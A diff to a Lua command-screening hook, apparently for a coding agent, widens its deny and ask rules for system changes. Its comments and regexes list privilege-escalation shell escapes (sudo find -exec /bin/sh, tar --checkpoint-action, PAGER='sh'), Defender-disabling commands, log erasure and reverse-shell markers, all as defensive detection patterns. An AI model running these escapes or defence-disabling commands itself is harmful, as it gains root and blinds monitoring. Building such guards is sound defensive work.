@@ -11,8 +11,14 @@
 --                adduser, deluser, chsh, …, writes to /etc/passwd, shadow, group;
 --                Windows: net user NAME PASS /add, net user NAME /delete, net
 --                localgroup administrators NAME /add, New-LocalUser,
---                Add-LocalGroupMember, … (net user and net localgroup list)
---   sudoers      visudo (but visudo -c), writes to /etc/sudoers(.d)
+--                Add-LocalGroupMember, … (net user and net localgroup list);
+--                a directory's entries changed on a server that is not this
+--                machine (ldapadd/ldapmodify/ldapdelete/ldappasswd -H
+--                ldap://dc…, samba-tool user create …)
+--   sudoers      visudo (but visudo -c), writes to /etc/sudoers(.d), sudoers
+--                named by a program that may write it (sed 'w …', tcpdump
+--                -w …, gawk print > "…", python/julia/puppet code) and any
+--                privileged read of it (sudo tail /etc/sudoers)
 --   root-shell   sudo/doas/pkexec/su/run0 opening a shell (sudo -i, sudo
 --                bash, su -, su - root), su -c running a command as root
 --                (su -c 'id', su root -c …; su postgres -c … is judged like
@@ -20,8 +26,14 @@
 --                escape gives a root shell (sudo vim/less/man/…, sudo git
 --                -p/help/commit without -m: its pager or editor), a
 --                privileged program told to run another (sudo tar
---                --checkpoint-action/--to-command/-I, zip -TT, rsync -e, man
---                -P, ssh -o ProxyCommand, git -c core.pager=…), and the shell
+--                --checkpoint-action/--to-command/-I/--rsh-command, zip -TT,
+--                rsync -e, man -P, ssh -o ProxyCommand, git -c core.pager=…,
+--                tcpdump -z, wget --use-askpass, aria2c --on-download-…),
+--                a privileged program loading a library of the caller's
+--                (curl --engine x.so, openssl -engine, mysql --default-auth,
+--                ctypes/Fiddle/dlopen in a one-liner), any shell escape
+--                below run with privilege (sudo chroot /, sudo yarn exec
+--                sh, sudo sed e), and the shell
 --                escapes of common programs run with privilege (sudo find
 --                -exec /bin/sh, sudo awk 'BEGIN{system("/bin/sh")}', sudo
 --                python -c '…os.system("/bin/sh")', …): denied, not asked, as
@@ -31,14 +43,23 @@
 --                launchctl load, update-rc.d, chkconfig, writes to unit and
 --                autostart folders (/etc/systemd, ~/.config/systemd,
 --                /etc/init.d, ~/Library/LaunchAgents, /etc/ld.so.preload, …)
---   ssh-keys     writes to authorized_keys, ssh-copy-id
+--                and to shell start-up files (~/.bashrc, ~/.profile,
+--                ~/.zshrc, /etc/profile, …), also by a program naming one
+--                that is not only reading it (sort -o ~/.bashrc, gawk
+--                'print > "~/.zshrc"', nmap -oG=…, a program the line writes
+--                out and runs); cat, grep, source, diff … of one pass
+--   ssh-keys     writes to authorized_keys (the same ways), ssh-copy-id
 --   cron         crontab -r/-e/FILE, at, writes to /etc/cron*, /var/spool/cron
 --   firewall     iptables/ip6tables changes (-F, -X, -P, -A, -D, …),
 --                iptables-restore, nft changes (flush ruleset, delete, add,
 --                -f), ufw changes (disable, reset, allow, …), firewall-cmd
---                changes, pfctl -d, netsh advfirewall
+--                changes, pfctl -d/-F/-f (not -n), netsh advfirewall
 --   disks        fdisk, sfdisk, gdisk, sgdisk, parted changes, wipefs -a,
---                mkfs, raw writes to disk devices, cryptsetup/mdadm erasures
+--                mkfs, raw writes to disk devices, cryptsetup/mdadm erasures,
+--                btrfs device remove/replace/add, check --repair, rescue,
+--                resize; pvmove, pvcreate, vgreduce; nbd-client -d, losetup
+--                -d; fsck/e2fsck/xfs_repair repairs (not -n), resize2fs,
+--                tune2fs changes
 --   kernel       insmod, rmmod, modprobe (load or -r), kexec, sysctl -w,
 --                writes to /proc/sys
 --   boot         grub-install, update-grub, grub-mkconfig -o, efibootmgr
@@ -53,13 +74,15 @@
 --   security-services  stopping, disabling, masking or killing a security
 --                service (SETTINGS.security_services): systemctl, service,
 --                /etc/init.d/X stop, update-rc.d, chkconfig, rc-service,
---                kill/pkill/killall; Microsoft Defender off (Set-MpPreference
---                -Disable… $true, Set-/Add-MpPreference -Exclusion…)
+--                kill/pkill/killall, sysrc NAME_enable=NO; Microsoft Defender
+--                off (Set-MpPreference -Disable… $true, Set-/Add-MpPreference
+--                -Exclusion…; mdatp config … disabled, mdatp exclusion add)
 --   services     the same for the services the machine needs to be reached
 --                and to run (SETTINGS.critical_services: sshd, networking,
 --                NetworkManager, dbus, cron, …)
 --   logs         deleting or truncating files under /var/log (appends are
---                fine), journalctl --vacuum-*, dmesg -C
+--                fine), journalctl --vacuum-*, dmesg -C, macOS log erase,
+--                osascript deleting a log file
 --   reverse-shell  /dev/tcp and /dev/udp to a host that is not the machine
 --                itself, nc/ncat -e/-c, socat with EXEC/SYSTEM and a
 --                network address, a pipeline joining a shell and a raw
@@ -74,10 +97,36 @@
 --                recursive rm or find -delete of a backup folder
 --                (SETTINGS.backup_folders) anywhere, and rm of a file in one
 --                outside the project
+--   package-file a package file installed with privilege (sudo dpkg -i x.deb,
+--                rpm -ivh x.rpm, yum localinstall, apt install ./x.deb,
+--                pacman -U, snap --dangerous): its scripts run as root
+--   root-server  a file server or API proxy run with privilege (sudo php -S,
+--                python -m http.server, ruby -run -e httpd, busybox httpd,
+--                kubectl proxy)
 --   system-files writes, moves, deletes and permission changes of files in
 --                the system folders (SETTINGS.system_folders, but
 --                SETTINGS.writable): cp, mv, tee, redirections, sed -i, rm,
 --                chmod, chattr, mkdir, sudoedit, find -delete
+--
+-- Asked about, not denied (SETTINGS.escapes):
+--   shell-escape an interactive shell whose commands no hook sees: a shell
+--                with no script (bash, exec zsh -l, nice /bin/sh, find -exec
+--                sh, awk 'BEGIN{system("sh")}', sh </dev/tty), a program
+--                told to start one (setarch/unshare/nsenter/cpulimit/
+--                ssh-agent/rlwrap/tmux/start-stop-daemon … /bin/sh, yarn
+--                exec sh, gem open -e sh, rpm --eval '%(sh)', make --eval
+--                '$(shell sh)', vi -c ':shell', gdb -ex '!sh', mysql -e
+--                '\! sh', sqlite3 '.shell sh', sed e, tar/zip/rsync/ssh's
+--                command options, julia/R/ghc/jrunscript code), one started
+--                by default (chroot /, capsh --, script, unshare), a variable
+--                naming the program another runs (PAGER='sh …', LESSOPEN,
+--                PERL5DB, BASH_ENV), a REPL fed an escape through a pipe, a
+--                file the line writes out to start one (a package.json
+--                script, a Gemfile's system("sh"), a program's source).
+--                Package names, look-ups (which bash, man bash), text
+--                tools, containers and remote hosts (docker run -it x sh,
+--                kubectl exec, ssh host) are not launchers here.
+--
 -- Why: each changes the machine rather than the project, turns a defense
 -- off, opens it to the network or destroys the way back; a coding agent
 -- needs none of it, and the user can run the command themselves.
@@ -107,6 +156,8 @@
 --   system_folders     folders whose files belong to the system
 --   writable           folders inside system_folders where writes are fine
 --   backup_folders     folder names whose deletion is destroying backups
+--   escapes            "ask" (default), "deny" or "allow": the verdict on
+--                      an unprivileged shell escape (rule shell-escape)
 --
 -- What it cannot know: a script the command runs (./setup.sh, sudo bash
 -- install.sh) is not read; a shell escape typed inside an interactive
@@ -128,7 +179,8 @@ local SETTINGS = hook.settings("system", {
     "falcond", "osqueryd", "wazuh-agent", "wazuh-manager", "ossec", "sysmon", "sysmonforlinux", "mdatp",
     "sentinelone", "sentinel-agent", "cbagentd", "elastic-agent", "elastic-endpoint", "auditbeat", "rsyslog",
     "syslog", "syslog-ng", "systemd-journald", "aide", "tripwire", "snort", "suricata", "zeek", "falco", "tetragon",
-    "crowdstrike", "qualys-cloud-agent", "amazon-guardduty-agent", "google-guest-agent" },
+    "crowdstrike", "qualys-cloud-agent", "amazon-guardduty-agent", "google-guest-agent", "syslogd", "pf", "pflog",
+    "ipfw", "wdavdaemon", "auditbeat" },
   critical_services = { "ssh", "sshd", "openssh-server", "networking", "network", "NetworkManager", "systemd-networkd",
     "systemd-resolved", "dbus", "dbus-broker", "systemd-logind", "cron", "crond", "polkit", "getty@tty1", "chronyd",
     "systemd-timesyncd", "containerd" },
@@ -137,6 +189,8 @@ local SETTINGS = hook.settings("system", {
   writable = { "/usr/local" },
   backup_folders = { "backup", "backups", ".snapshots", "snapshots", "timeshift", "Backups.backupdb", ".zfs",
     ".backup", ".backups" },
+  -- the verdict on an unprivileged shell escape: "ask", "deny" or "allow"
+  escapes = "ask",
 })
 
 -- unit_name returns a unit name without its type suffix or instance,
@@ -321,6 +375,112 @@ end
 
 local unit = unit_name
 
+-- Files a program other than a reader must not name: shell start-up
+-- files (persistence), sudoers (sudoers) and SSH's authorized keys
+-- (ssh-keys). A word is matched as text, so that a path inside inline
+-- code (gawk 'BEGIN { print "x" > "/home/u/.bashrc" }', sed 'w FILE',
+-- julia -e 'open(…)') or an option's value (sort -o FILE, tcpdump -w FILE,
+-- nmap -oG=FILE) counts as well as an operand.
+local HOME_RE = "(?:^|[^\\w.-])(?:~[\\w.-]*|\\$\\{?HOME\\}?|/home/[^/\\s'\"]+|/Users/[^/\\s'\"]+|/root|/var/root)"
+local STARTUP_RE = "(?i)" .. HOME_RE .. "/\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|" ..
+  "zprofile|zlogin|zlogout|kshrc|mkshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsessionrc|pam_environment|" ..
+  "config/fish/config\\.fish)(?:$|[^\\w.-])|/etc/(?:profile|bash\\.bashrc|bashrc|zshrc|zprofile|zshenv|" ..
+  "zlogin|zsh/|environment|csh\\.cshrc|csh\\.login)(?:$|[^\\w.-])"
+local SUDOERS_RE = "(?:/etc|/usr/local/etc|/private/etc)/sudoers|/etc/doas\\.conf"
+local AUTHKEYS_RE = "(?:\\.ssh|/etc/ssh)/(?:[^\\s'\"]*/)?authorized_keys2?(?:$|[^\\w.-])"
+-- a quick test before the three above: a word naming none of them is read once
+local GUARDED_RE = "(?i)rc(?:$|[^\\w])|profile|login|logout|zshenv|environment|config\\.fish|pam_env|xinitrc|" ..
+  "xsessionrc|sudoers|doas\\.conf|authorized_keys"
+
+-- READERS only read the files they name (or print the name): naming a
+-- guarded file is fine, unless they run with privilege and it is sudoers.
+local READERS = set({ "cat", "less", "more", "most", "head", "tail", "grep", "egrep", "fgrep", "zgrep", "rg", "ag",
+  "ack", "diff", "cmp", "colordiff", "ls", "stat", "file", "wc", "md5sum", "sha1sum", "sha256sum", "sha512sum",
+  "b2sum", "cksum", "source", ".", "test", "[", "[[", "echo", "printf", "readlink", "realpath", "basename",
+  "dirname", "bat", "batcat", "nl", "strings", "od", "xxd", "hexdump", "shellcheck", "lsattr", "getfacl", "du",
+  "view", "code", "visudo" })
+-- TARGETED programs' writes are read by targets() (cp's last operand,
+-- rm's operands, …): naming a guarded file as their source reads it.
+local TARGETED = set({ "cp", "mv", "ln", "install", "rsync", "scp", "tee", "touch", "truncate", "dd" })
+for k in pairs(REMOVERS) do TARGETED[k] = true end
+for k in pairs(CHANGERS) do TARGETED[k] = true end
+-- FILTERS read the files they are given as operands; only a guarded file
+-- named inside their program text or as an output option's value counts.
+local FILTERS = set({ "sed", "gsed", "awk", "gawk", "mawk", "nawk", "sort", "cut", "tr", "uniq", "jq", "yq", "tac",
+  "rev", "fold", "fmt", "column", "paste", "join", "comm", "expand", "iconv", "envsubst", "base64", "sha", "perl" })
+local OUTPUT_OPT = set({ "-o", "--output", "-w", "--write" })
+
+-- folded returns a word with the path spellings that name the same file
+-- folded: a whole path cleaned (~/./.bashrc, /etc//sudoers, /x/../etc/…),
+-- "/./" and "//" inside code.
+local function folded(t)
+  local first = t:sub(1, 1)
+  if not t:find("[%s'\"]") and (first == "/" or t:sub(1, 2) == "~/") then
+    return first == "/" and paths.clean(t) or "~" .. paths.clean(t:sub(2))
+  end
+  local n
+  repeat t, n = t:gsub("/%./", "/") until n == 0
+  return (t:gsub("//+", "/"))
+end
+
+local memo_c, memo_hits
+
+-- mentions reports whether a word of c (its wrappers' words too: xargs -a
+-- FILE) names a file pattern matches where c may write it. always: any
+-- program naming it counts, readers too (a privileged read of sudoers).
+local function mentions(c, pattern, always)
+  local n = c.name or ""
+  if (not always and (TARGETED[n] or READERS[n] or (n == "ssh-keygen" and flag(c, "lFyB", nil))))
+    or (n == "visudo" and flag(c, "c", "check")) then
+    return false
+  end
+  local words = c.argv or c.args
+  local hits = memo_hits
+  if c ~= memo_c then
+    -- the words naming a guarded file, found once for the three rules
+    -- (remembered for the command the rules are reading: a field set on
+    -- the command would grow its table)
+    hits = false
+    for k, a in ipairs(words) do
+      local t = a.text
+      if re.match(GUARDED_RE, t) then
+        hits = hits or {}
+        hits[#hits + 1] = folded(t)
+        hits[#hits + 1] = k
+      end
+    end
+    memo_c, memo_hits = c, hits
+  end
+  if not hits then return false end
+  for j = 1, #hits, 2 do
+    local t, k = hits[j], hits[j + 1]
+    if re.match(pattern, t) then
+      local operand = FILTERS[n] and not t:find("[%s'\"(){};,=>]") and not (words[k - 1] and OUTPUT_OPT[words[k - 1].text])
+      if not operand or always then return true end
+    end
+  end
+  return false
+end
+
+-- WRITE_CODE: program text that opens a file for writing
+local WRITE_CODE = "(?i)O_(?:CREATE?|WRONLY|RDWR|APPEND|TRUNC)|write_?file|writeFileSync|appendFile|" ..
+  "file_put_contents|\\bopen\\s*\\([^)]*[\"'][wa]\\+?b?[\"']|fopen\\s*\\([^)]*[\"'][wa]|File\\.(?:write|open)|>>?\\s*[\"']?/"
+
+-- writes_guarded reports whether c writes out (echo '…' > x.go) a program
+-- whose text opens a file pattern matches for writing: the next command
+-- runs it (go run x.go), where no rule reads it.
+local function writes_guarded(c, pattern)
+  if #c.redirs == 0 or (c.name ~= "echo" and c.name ~= "printf" and c.name ~= "cat") then return false end
+  local out = shell.output(c)
+  return out ~= nil and re.match(GUARDED_RE, out) and re.match(pattern, out) and re.match(WRITE_CODE, out)
+end
+
+-- startup reports whether an absolute path is a shell start-up file.
+local function startup(abs)
+  return re.match(GUARDED_RE, abs) and re.match(STARTUP_RE, abs)
+end
+
+
 -- systemctl returns the verb of a systemctl command and its units.
 local SYSTEMCTL_ARG = set({ "-H", "-M", "-t", "-p", "-n", "-o", "-s", "--host", "--machine", "--type", "--property",
   "--lines", "--output", "--signal", "--state", "--root", "--kill-whom", "--job-mode", "--what", "--message" })
@@ -404,6 +564,10 @@ local ACCOUNT_TOOLS = set({ "useradd", "userdel", "usermod", "groupadd", "groupd
   "pwconv", "pwunconv", "grpconv", "grpunconv", "sysadminctl", "pw", "lusermod", "luseradd", "luserdel" })
 local ACCOUNT_FILES = { "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/master.passwd",
   "/etc/subuid", "/etc/subgid", "/etc/login.defs", "/etc/pam.d", "/etc/security" }
+local LDAP_CHANGERS = set({ "ldapadd", "ldapmodify", "ldapdelete", "ldapmodrdn", "ldappasswd" })
+local SAMBA_VERBS = set({ "add", "create", "delete", "remove", "setpassword", "enable", "disable", "addmembers",
+  "removemembers", "setexpiry", "move", "rename" })
+local loopback -- defined below
 local function accounts(c, cwd)
   local n = c.name
   if ACCOUNT_TOOLS[n] then
@@ -416,6 +580,20 @@ local function accounts(c, cwd)
     return any_arg(c, "^-(?:create|delete|append|passwd|merge|change)$")
   elseif n == "net" or n == "net1" then
     return net_account(select(2, operands(c)))
+  elseif LDAP_CHANGERS[n] then
+    -- a directory's entries (its users and groups) changed on a server
+    -- that is not this machine (-H ldap://dc.example, -h host, or the
+    -- configured default); a local test directory is the project's
+    local host
+    for k, a in ipairs(c.args) do
+      local t = a.text
+      local v = t:match("^%-[Hh](.+)$") or ((t == "-H" or t == "-h") and c.args[k + 1] and c.args[k + 1].text)
+      if v then host = v:gsub("^ldaps?i?://", ""):gsub("[:/].*$", "") end
+    end
+    return not flag(c, "n", "help") and not (host and (loopback(host) or host == "%2fvar%2frun%2fslapd"))
+  elseif n == "samba-tool" then
+    local _, ts = operands(c)
+    return (ts[1] == "user" or ts[1] == "group" or ts[1] == "computer") and SAMBA_VERBS[ts[2] or ""] == true
   end
   return has_outside(c, cwd) and touches(c, cwd, function(abs) return under(abs, ACCOUNT_FILES) end)
 end
@@ -440,6 +618,10 @@ local function sudoers(c, cwd)
   if c.name == "visudo" then
     return not flag(c, "c", "check help version")
   end
+  -- named by a program that may write it (sed 'w /etc/sudoers', tcpdump -w
+  -- /etc/sudoers), or by any program run with privilege (sudo tail
+  -- /etc/sudoers: only root reads it)
+  if mentions(c, SUDOERS_RE, privileged(c)) or writes_guarded(c, SUDOERS_RE) then return true end
   return has_outside(c, cwd) and touches(c, cwd, function(abs)
     return paths.inside(abs, "/etc/sudoers") or paths.inside(abs, "/etc/sudoers.d")
       or paths.inside(abs, "/usr/local/etc/sudoers") or paths.inside(abs, "/etc/doas.conf")
@@ -453,11 +635,229 @@ local su_root, git_escape, RUNS_PROGRAM -- defined below, before root_shell
 local INTERACTIVE = set({ "vi", "vim", "nvim", "view", "vimdiff", "rvim", "ex", "ed", "nano", "pico", "emacs", "less",
   "more", "most", "pg", "man", "ftp", "gdb", "tmux", "screen", "script", "expect", "tclsh", "wish", "irb", "top",
   "htop", "mc", "ranger", "aptitude", "telnet", "capsh", "nsenter", "unshare", "jjs", "crash", "ghci", "scala",
-  "rlwrap", "multitime" })
+  "rlwrap", "multitime", "ee", "joe", "jed", "mcedit", "micro", "kak", "hx", "ne", "vis", "mg", "jove", "zile",
+  "cpan", "chroot" })
 -- Package managers name packages in their operands (apt-get install zsh):
 -- only their option values are read for a shell.
 local PACKAGERS = set({ "apt", "apt-get", "dnf", "yum", "zypper", "pacman", "apk", "brew", "snap", "pip", "pip3",
   "npm", "pnpm", "yarn", "gem", "cargo", "go", "dpkg", "rpm", "flatpak", "nix-env", "port" })
+
+-- shell_escape: an interactive shell whose commands no hook sees, started
+-- by the agent or by another program told to run one. Asked about
+-- (SETTINGS.escapes); run with privilege it is root-shell's, denied.
+-- code that runs a program
+local ESC_CODE = "(?i)exec|spawn|system|popen|passthru|proc_open|call|\\brun\\b|process|pty"
+local SHELL_NAMES = "(?:ba|z|da|k|mk|tc|c|a|fi|rba|ya|po)?sh"
+-- an absolute shell path anywhere in a word: "/bin/sh", "exec=/bin/bash",
+-- "unixexec:path=/bin/sh,argv1=-c", ":!/bin/sh", "(term \"/bin/sh\")"
+local SHELL_PATH = "(?i)(?:^|[^\\w.-])/(?:usr/)?(?:local/)?s?bin/" .. SHELL_NAMES .. "(?:$|[^\\w.-])"
+-- a word that is a shell alone: "sh", "bash -i", "/bin/sh #", ";sh 0<&2"
+local SHELL_ALONE = "(?i)^[\\s;!:]*(?:[\\w/.-]*/)?" .. SHELL_NAMES .. "(?:\\s+-[a-z]+)*(?:\\s+[0-9]?[<>]&?[0-9]?)*\\s*(?:#.*)?$"
+-- in code: a shell named alone in quotes or backquotes ("/bin/sh", `sh`, '/bin/sh -i')
+local SHELL_QUOTED = "(?i)[\"'`]\\s*(?:/(?:usr/)?(?:local/)?s?bin/)?" .. SHELL_NAMES .. "(?:\\s+-[ilsp]+)*\\s*[\"'`]"
+local SHELL_QUOTED_C = SHELL_QUOTED .. "\\s*[,\\]]?\\s*[\"']?-c"
+-- in a script: a line that is a shell alone; a shell reading the terminal
+local SHELL_LINE = "(?im)" .. SHELL_ALONE:sub(5)
+local SHELL_TTY = "(?i)(?:^|[^\\w.-])" .. SHELL_NAMES .. "(?:\\s+-[a-z]+)*\\s*0?<\\s*/dev/tty"
+-- programs a shell named in whose words is not one they start: text,
+-- look-ups, package names, containers and remote hosts (their own packs'
+-- business), accounts (accounts')
+local NOT_LAUNCHERS = set({ "which", "whereis", "type", "command", "hash", "man", "info", "help", "tldr", "whatis",
+  "apropos", "shfmt", "chsh", "usermod", "useradd", "adduser", "lchsh", "docker", "podman", "nerdctl", "kubectl",
+  "oc", "lxc", "incus", "multipass", "vagrant", "ssh", "mosh", "gh", "git", "pgrep", "pidof", "pkill", "killall",
+  "ps", "id", "export", "alias", "unalias", "set", "declare", "local", "readonly", "update-alternatives", "dpkg",
+  "dpkg-query", "apt-file", "ldd", "nm", "objdump", "readelf", "getent", "complete", "compgen", "kill", "trap",
+  "ulimit", "unset", "printenv", "locale", "parallel", "sem", "find", "eval", "su", "runuser", "sg", "xargs",
+  "watch", "exec" })
+for k in pairs(READERS) do NOT_LAUNCHERS[k] = true end
+for k in pairs(FILTERS) do NOT_LAUNCHERS[k] = true end
+for k in pairs(PACKAGERS) do NOT_LAUNCHERS[k] = true end
+-- package managers' verbs that run a program: yarn exec sh, bundle exec sh
+local RUN_VERBS = set({ "exec", "x", "dlx", "run", "run-script" })
+local RUNNERS = set({ "yarn", "npm", "pnpm", "npx", "pnpx", "bundle", "bundler", "bunx", "uv", "uvx", "poetry",
+  "pipenv", "conda", "mamba", "pixi", "composer", "rbenv", "pyenv", "nvm", "asdf", "mise", "direnv", "nix", "opam",
+  "stack", "cabal", "dotnet", "deno", "bun" })
+-- programs that start a shell when given no command
+local SHELL_DEFAULT = set({ "chroot", "unshare", "nsenter", "setarch", "linux32", "linux64", "i386", "x86_64",
+  "script", "capsh", "dbus-run-session", "schroot", "proot", "bwrap", "fakechroot", "firejail" })
+-- editors and REPLs whose command options run a shell command
+local ESCAPE_CMD = "(?i)^[\\s:+]*(?:!|sh(?:ell)?\\s*$|sh(?:ell)?\\s*[|;]|terminal\\b|set\\s+shell=|\\\\!|\\.shell\\b|" ..
+  "\\.system\\b|system\\b)|\\(\\s*(?:term|ansi-term|shell|eshell|shell-command)\\b"
+local ESCAPE_PROGRAMS = set({ "vi", "vim", "nvim", "view", "vimdiff", "rvim", "ex", "gdb", "emacs", "mysql", "mariadb",
+  "sqlite3", "psql", "lldb" })
+-- variables that name a program another one runs (PAGER=…, LESSOPEN=…)
+local ESCAPE_VARS = "(?:^|[\\s;&|(`'\"])(?:PAGER|GIT_PAGER|MANPAGER|SYSTEMD_PAGER|EDITOR|VISUAL|GIT_EDITOR|" ..
+  "SUDO_EDITOR|GIT_SSH_COMMAND|GIT_EXTERNAL_DIFF|PROMPT_COMMAND)=(?:'[^']*'|\"[^\"]*\"|[^\\s;&|]*)"
+local ALWAYS_VARS = "(?:^|[\\s;&|(`'\"])(?:LESSOPEN|LESSCLOSE|PERL5DB|BASH_ENV|ENV|ZDOTDIR)="
+
+-- interactive reports whether c is a shell reading commands from the
+-- terminal: no script, no -c code, no pipe or here-document or file on
+-- its stdin, only options (sh, bash -i, exec zsh -l, /bin/sh </dev/tty).
+local function interactive(c)
+  if not SHELLS[c.name or ""] or c.inline or c.pipe_in then return false end
+  if c.script and c.script.text ~= "/dev/tty" then return false end
+  for _, r in ipairs(c.redirs) do
+    if r.op:sub(1, 1) == "<" and (r.fd == nil or r.fd == "0") and r.target.text ~= "/dev/tty" then return false end
+  end
+  for _, a in ipairs(c.args) do
+    local t = a.text
+    if a.unknown or t:sub(1, 1) ~= "-" or t == "-" or t == "--" or (t:sub(2, 2) ~= "-" and t:find("c", 2, true)) then
+      return false
+    end
+  end
+  return true
+end
+
+-- names_shell reports whether a word of c from k on names a shell as a
+-- program to run (an absolute shell path, or a word that is a shell alone).
+local function names_shell(c, from, options_only)
+  for k = from or 1, #c.args do
+    local t = c.args[k].text
+    if (not options_only or t:sub(1, 1) == "-") and t:find("[sS][hH]") then
+      if t:find("/%.") or t:find("//", 1, true) then t = folded(t) end
+      -- an option's attached value too: -H/bin/sh, --up=sh
+      local v = t:match("^%-%-[%w-]+=(.*)$") or t:match("^%-%a(.+)$") or t:match("^[%w-]+=(.*)$") or t
+      if re.match(SHELL_PATH, t) or re.match(SHELL_ALONE, t) or re.match(SHELL_ALONE, v) then return true end
+    end
+  end
+  return false
+end
+
+-- SED_EXEC: sed's e command (run the pattern space, or its argument, as a
+-- shell command) at the start of a script or after ; { }
+local SED_EXEC = "^(?:[^'\"]*[;{}\n])?\\s*(?:\\d+|\\$|/[^/]*/)?(?:,(?:\\d+|\\$|/[^/]*/))?\\s*e(?:\\s|$)"
+
+local function escape(c)
+  local n = c.name
+  if not n then return false end
+  if interactive(c) then return true end
+  if SHELLS[n] then return false end
+  if SHELL_DEFAULT[n] then
+    local _, ts = operands(c)
+    if n == "chroot" or n == "schroot" or n == "proot" or n == "fakechroot" then
+      -- the root, then the program: none given runs $SHELL -i
+      if #ts <= 1 and not flag(c, nil, "help version") then return true end
+    elseif n == "script" then
+      if not flag(c, "cV", "command help version") then return true end
+    elseif n == "capsh" then
+      if any_arg(c, "^--(?:shell=.*)?$") then return true end
+    elseif n == "setarch" then
+      if #ts <= 1 and not flag(c, nil, "help version list") then return true end
+    elseif #ts == 0 and not flag(c, "V", "help version") then
+      return true
+    end
+  end
+  if (c.inline or c.script) and shell.interpreter(n) then
+    -- inline code starting a shell the parser did not follow (os.execl,
+    -- pcntl_exec, spawn(…, {stdio: …})): a shell named alone in quotes,
+    -- not followed by -c
+    if c.inline then
+      for _, a in ipairs(c.args) do
+        local t = a.text
+        if re.match(SHELL_QUOTED, t) and re.match(ESC_CODE, t)
+          and #re.find_all(SHELL_QUOTED, t) > #re.find_all(SHELL_QUOTED_C, t) then
+          return true
+        end
+      end
+    end
+    return false
+  end
+  if ESCAPE_PROGRAMS[n] then
+    for _, a in ipairs(c.args) do
+      if re.match(ESCAPE_CMD, a.text) then return true end
+    end
+  end
+  if n == "run-parts" then
+    -- every program of a system folder, or those a pattern naming a shell picks
+    for _, a in ipairs(c.args) do
+      if re.match("^/(?:usr/)?(?:local/)?s?bin/?$", folded(a.text)) or re.match("(?i)(?:^|\\W)" .. SHELL_NAMES .. "(?:$|\\W)", a.text) then
+        return true
+      end
+    end
+  end
+  if n == "git" then
+    -- git -c core.pager='/bin/sh …', git --exec-path=DIR (a git-x there is a shell)
+    for _, a in ipairs(c.args) do
+      local v = a.text:match("^[%w.-]+=(.*)$") or a.text:match("^%-%-exec%-path=(.*)$")
+      if v and (re.match(SHELL_PATH, v) or re.match(SHELL_ALONE, v)) then return true end
+      if a.text:find("^%-%-exec%-path=") and not a.text:find("^%-%-exec%-path=/usr/") then return true end
+    end
+    return false
+  end
+  if RUNNERS[n] then
+    local _, ts = operands(c)
+    for k, t in ipairs(ts) do
+      if RUN_VERBS[t] then return names_shell(c, 1) end
+      if k > 1 then break end
+    end
+    return (n == "npx" or n == "pnpx" or n == "bunx" or n == "uvx") and names_shell(c, 1)
+  end
+  if n == "ssh" then
+    return any_arg(c, "(?i)^(?:-o\\s*)?(?:ProxyCommand|LocalCommand)") and names_shell(c, 1)
+  end
+  if n == "man" then
+    -- man -H/bin/sh, man -P 'sh -c …': its pager or browser
+    return names_shell(c, 1, true)
+  end
+  if n == "sed" or n == "gsed" then
+    for _, a in ipairs(c.args) do
+      if not a.unknown and a.text:sub(1, 1) ~= "-" and re.match(SED_EXEC, a.text) then return true end
+    end
+    return false
+  end
+  if c.pipe_in and c.upstream and (ESCAPE_PROGRAMS[n] or INTERACTIVE[n] or n == "cpan") then
+    -- a REPL fed a shell escape through a pipe (echo '! exec "/bin/sh"' | cpan)
+    local out = shell.output(c.upstream)
+    if out and (re.match(SHELL_PATH, out) or re.match("(?im)" .. ESCAPE_CMD:sub(5), out)) then return true end
+  end
+  if PACKAGERS[n] then
+    -- package names are operands (apt install zsh): an absolute shell path only
+    -- (gem open -e '/bin/sh -s', pip config --editor '/bin/sh -s', rpm --eval '%(/bin/sh)')
+    for _, a in ipairs(c.args) do
+      if a.text:find("sh", 1, true) and re.match(SHELL_PATH, a.text) then return true end
+    end
+    return false
+  end
+  if NOT_LAUNCHERS[n] then return false end
+  return names_shell(c, 1)
+end
+
+-- A file a line writes from text it spells out (echo '…' > package.json):
+-- a package manifest or a program whose text starts a shell, run by the
+-- next command (npm i, go run x.go). The shebang line does not count.
+local function written_escape(c)
+  if #c.redirs == 0 then return false end
+  local out
+  for _, r in ipairs(c.redirs) do
+    if r.op == ">" or r.op == ">>" or r.op == ">|" then
+      out = out or shell.output(c)
+      if not out then return false end
+      local body = out:gsub("^#![^\n]*", "")
+      if re.match(SHELL_QUOTED, body) and (re.match(ESC_CODE, body)
+        or re.match("(?i)\"(?:scripts|pre\\w*|post\\w*|install|test|start)\"\\s*:|system\\s*\\(", body)) then
+        return true
+      end
+      -- a script whose line is a shell alone (/bin/sh 1>&0), or a shell reading the terminal
+      if re.match(SHELL_LINE, body) or re.match(SHELL_TTY, body) then return true end
+    end
+  end
+  return false
+end
+
+-- escape_vars reports whether the line sets a variable naming the program
+-- another one runs to a shell (PAGER='/bin/sh …' git -p help), or one
+-- whose every use runs a command (LESSOPEN, PERL5DB, BASH_ENV).
+local function escape_vars(line)
+  if not line:find("=", 1, true) then return false end
+  if re.match(ALWAYS_VARS, line) then return true end
+  for _, v in ipairs(re.find_all(ESCAPE_VARS, line)) do
+    local value = v:match("=(.*)$"):gsub("[\\'\"]", "")
+    if re.match(SHELL_PATH, value) or re.match(SHELL_ALONE, value) or re.match("(?i)^\\s*" .. SHELL_NAMES .. "\\s+-c\\b", value) then
+      return true
+    end
+  end
+  return false
+end
 
 -- su_root reports whether su/runuser -c runs as root: no user named, or
 -- root (or UID 0) named. The values of -c, -s, -g, -G and -w are skipped.
@@ -500,8 +900,13 @@ end
 -- caller's choosing; run with privilege, that program runs as root and is
 -- not read (tar --checkpoint-action=exec=…, zip -TT …, rsync -e …).
 RUNS_PROGRAM = {
-  tar = "^(?:--checkpoint-action|--to-command|--use-compress-program|--info-script|--new-volume-script|-I|-F)",
-  gtar = "^(?:--checkpoint-action|--to-command|--use-compress-program|--info-script|--new-volume-script|-I|-F)",
+  tar = "^(?:--checkpoint-action|--to-command|--use-compress-program|--info-script|--new-volume-script|-I|-F|" ..
+    "--rsh-command|--rmt-command)",
+  gtar = "^(?:--checkpoint-action|--to-command|--use-compress-program|--info-script|--new-volume-script|-I|-F|" ..
+    "--rsh-command|--rmt-command)",
+  aria2c = "^--on-(?:bt-)?download-",
+  tcpdump = "^-z",
+  wget = "^--use-askpass",
   zip = "^(?:-TT|--unzip-command)",
   rsync = "^(?:-e|--rsh|--rsync-path)",
